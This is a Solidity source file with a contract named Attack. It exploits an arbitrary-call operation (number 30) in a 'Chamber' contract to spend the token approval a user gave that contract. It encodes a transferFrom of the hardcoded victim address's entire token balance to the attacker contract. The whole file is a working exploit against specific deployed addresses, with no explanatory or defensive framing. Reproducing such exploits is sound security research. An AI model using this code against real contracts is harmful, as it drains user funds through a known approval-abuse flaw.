// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Erc20} from "../Erc20.sol";

interface TransferFrom {
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
}

interface Chamber {
    function performOperations(uint8[] calldata actions, uint256[] calldata values, bytes[] calldata datas)
        external
        payable;
}

/// Lets the Chamber spend the approval that a user gave it: operation 30 calls any address with any data.
contract Attack {
    Chamber constant CHAMBER = Chamber(0x65c210c59B43EB68112b7a4f75C8393C36491F06);
    Erc20 constant PT = Erc20(0xB05cABCd99cf9a73b19805edefC5f67CA5d1895E);
    address constant VICTIM = 0x9CBF099ff424979439dFBa03F00B5961784c06ce;
    uint8 constant CALL_ANYTHING = 30;

    function attack() external {
        bytes memory take =
            abi.encodeCall(TransferFrom.transferFrom, (VICTIM, address(this), PT.balanceOf(VICTIM)));
        uint8[] memory actions = new uint8[](1);
        bytes[] memory datas = new bytes[](1);
        actions[0] = CALL_ANYTHING;
        datas[0] = abi.encode(address(PT), take, false, false, uint8(0));
        CHAMBER.performOperations(actions, new uint256[](1), datas);
    }
}
